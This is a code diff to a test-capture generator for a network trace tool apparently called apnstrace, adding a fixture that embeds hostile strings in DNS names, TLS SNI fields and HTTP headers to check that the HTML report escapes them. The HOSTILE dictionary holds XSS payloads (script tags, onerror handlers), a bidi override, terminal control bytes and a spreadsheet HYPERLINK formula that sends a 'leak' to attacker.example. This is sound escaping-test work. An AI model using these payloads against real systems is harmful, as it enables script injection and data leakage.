@@ -2784,6 +2784,117 @@ def rotation_pair(cap: Capture) -> list[Capture]:
     return out
 
 
+# --------------------------------------------------------------------------- hostile strings
+
+HOSTILE = {   # what an attacker can put in names and headers a capture shows (report escaping)
+    "script": "<script>alert(1)</script>",
+    "attribute": '"onerror=alert(1) x="',
+    "img": "<img src=x onerror=alert(2)>",
+    "formula": '=HYPERLINK("http://attacker.example/?leak","Click")',
+    "bidi": "\u202e",                       # RIGHT-TO-LEFT OVERRIDE
+    "control": "\x00\x07\x08\x1b[2J\x7f",   # NUL, BEL, BS, an ANSI clear-screen, DEL
+}
+HOSTILE_LONG_PATH = "/pkgs/" + (HOSTILE["img"] * 80)[:1994]   # 2,000 characters
+assert len(HOSTILE_LONG_PATH) == 2000
+
+
+def wire_text(value):
+    """A string as apnstrace's decoders print what the helpers wrote: printable ASCII as is
+    (except backslash), every other byte of its UTF-8 as \\xNN."""
+    if not isinstance(value, str):
+        return value
+    return "".join(chr(b) if 0x20 <= b < 0x7F and b != 0x5C else f"\\x{b:02x}" for b in value.encode())
+
+
+def gen_hostile_strings() -> Capture:
+    cap = Capture("hostile_strings.pcap", [(LT_ETHERNET, 6)], start_offset_s=36000)
+    cap.dns_names = []
+    iphone = Link("eth", c_mac=IPHONE_MAC)
+    ipad = Link("eth", c_mac=IPAD_MAC)
+    h = HOSTILE
+    names = {
+        "dns_answer": f"{h['img']}.courier.push.apple.com",
+        "sni_script": f"{h['script']}.courier.push.apple.com",
+        "sni_attribute": f"{h['attribute']}.courier.push.apple.com",
+        "sni_bidi_control": f"{h['bidi']}gpj.exe{h['control']}.courier.push.apple.com",
+        "dns_nxdomain": f"{h['script']}.push.apple.com",
+        "http_host": f"{h['img']}.captive.apple.com",
+        "http_path": f"/{h['formula']}?{h['script']}",
+        "http_user_agent": f"CaptiveNetworkSupport {h['attribute']} {h['bidi']}{h['control']} wispr",
+        "long_path": HOSTILE_LONG_PATH,
+    }
+    r = 0.0214
+    # -- a DNS answer for a hostile name under courier.push.apple.com; the next flow goes there
+    dns_lookup(cap, iphone, DEV4, 61301, 0.0, names["dns_answer"], 1, [], ["17.57.146.60"])
+    c1 = TcpFlow(cap, DEV4, 49920, "17.57.146.60", 5223, iphone,
+                 "APNs courier, TLS 1.3, SNI <script>alert(1)</script>.courier.push.apple.com, ALPN "
+                 "apns-security-v3; connect / ack; stays open (S1). sni decides (a subdomain of "
+                 "courier.push.apple.com)")
+    t = tls13_open(c1, 0.0204, r, names["sni_script"], ["apns-security-v3"], server_len=300)
+    exchange(c1, t + 0.0019, r, 300, 60)
+    classify(c1, "apns", "sni")
+    # -- a second device's courier: hostile attribute-breaking SNI, reset after the ClientHello
+    c2 = TcpFlow(cap, IPAD4, 50120, "17.57.146.61", 5223, ipad,
+                 "APNs courier from the iPad, TLS 1.3 ClientHello with SNI \"onerror=alert(1) x=\""
+                 ".courier.push.apple.com, then a RST/ACK from the server side 2.1 ms later "
+                 "(RSTR, reset_after_handshake)", s_ttl=61)
+    t = c2.handshake(1.0, r) + 0.0008
+    tls_hello(c2, t, names["sni_attribute"], ["apns-security-v3"], True)
+    c2.seg(t + 0.0021, False, "RA")
+    classify(c2, "apns", "sni")
+    # -- a courier whose SNI has a bidi override and control characters
+    c3 = TcpFlow(cap, DEV4, 49922, "17.57.146.62", 5223, iphone,
+                 "APNs courier, TLS 1.3, SNI U+202E 'gpj.exe' NUL BEL BS ESC[2J DEL .courier.push.apple.com "
+                 "(UTF-8 and control bytes on the wire); stays open (S1)")
+    t = tls13_open(c3, 2.0, r, names["sni_bidi_control"], ["apns-security-v3"], server_len=300)
+    exchange(c3, t + 0.0019, r, 300, 60)
+    classify(c3, "apns", "sni")
+    # -- an NXDOMAIN for a hostile APNs name: a blocked-table row (and the worst one)
+    dns_lookup(cap, iphone, DEV4, 61303, 3.0, names["dns_nxdomain"], 1, [], [], nxdomain="apple.com")
+    # -- clear-text HTTP: hostile Host, path (a spreadsheet formula and a script tag) and User-Agent
+    cp = TcpFlow(cap, DEV4, 50030, CAPTIVE, 80, iphone,
+                 "captive-portal style GET to 17.253.27.205:80 with a hostile Host, path and User-Agent "
+                 "(bidi override and control bytes); 200 Success; FIN both ways. http-host decides "
+                 "(a subdomain of captive.apple.com)", s_ttl=57)
+    rc = 0.0061
+    t = cp.handshake(4.0, rc) + 0.0002
+    t = http_request(cp, t, "GET", names["http_host"], names["http_path"], names["http_user_agent"])
+    cp.ack(t + rc, False)
+    body = b"<HTML><HEAD><TITLE>Success</TITLE></HEAD><BODY>Success</BODY></HTML>"
+    t = http_response(cp, t + 0.040, 200, "OK", "Content-Type: text/html\r\n", body)
+    cp.ack(t + 0.00005, True)
+    tcp_close(cp, t + 0.0103, rc)
+    classify(cp, "apple", "http-host")
+    # -- a 2,000-character path to swcdn.apple.com
+    sw = TcpFlow(cap, IPAD4, 50125, SWCDN, 80, ipad,
+                 "GET http://swcdn.apple.com with a 2,000-character path (80 <img onerror> tags), "
+                 "404; FIN both ways. http-host decides (swcdn.apple.com)", s_ttl=57)
+    t = sw.handshake(5.0, 0.0052) + 0.0002
+    t = http_request(sw, t, "GET", "swcdn.apple.com", names["long_path"], MUNKI_UA)
+    sw.ack(t + 0.0052, False)
+    t = http_response(sw, t + 0.021, 404, "Not Found", "Content-Type: text/plain\r\n", b"Not Found")
+    sw.ack(t + 0.00005, True)
+    tcp_close(sw, t + 0.0103, 0.0052)
+    classify(sw, "sus", "http-host")
+
+    resolve_server_names(cap)
+    for fl in cap.flows:
+        fl.extra = {k: wire_text(v) for k, v in fl.extra.items()}
+        fl.what = wire_text(fl.what)
+    cap.truth_extra = {
+        "hostile": {k: {"text": v, "as_decoded": wire_text(v)} for k, v in HOSTILE.items()},
+        "names": {k: {"text": v, "as_decoded": wire_text(v)} for k, v in names.items()},
+        "dns_failures": [{"qname": names["dns_nxdomain"], "qtype": "A", "reason": "dns_nxdomain",
+                          "client": DEV4, "client_port": 61303, "server": RESOLVER, "server_port": 53}],
+        "blocked": [{"client_ip": IPAD4, "client_port": 50120, "block_reason": "reset_after_handshake"}],
+        "note": ("strings as the helpers wrote them (`text`) and as apnstrace's decoders print them "
+                 "(`as_decoded`: printable ASCII except backslash as is, every other UTF-8 byte as \\xNN; "
+                 "DNS names lower-cased). Per-flow classification columns are given as decoded. "
+                 "report.html must show every one as text: escaped, never markup."),
+    }
+    return cap
+
+
 def all_captures() -> list[Capture]:
     caps = [gen_courier_push(), gen_mdm_checkin(), gen_blocked_syn(), gen_site_mixed()]
     caps.append(variety("variety_nsec_be.pcap", Link("eth"), linktype=LT_ETHERNET, nsec=True, big_endian=True))
@@ -2794,6 +2905,7 @@ def all_captures() -> list[Capture]:
     caps += [gen_blocked_reasons(), gen_courier_flapping()]
     seq = gen_sequences_site()
     caps += [seq, *rotation_pair(seq)]
+    caps.append(gen_hostile_strings())
     return caps
 
 
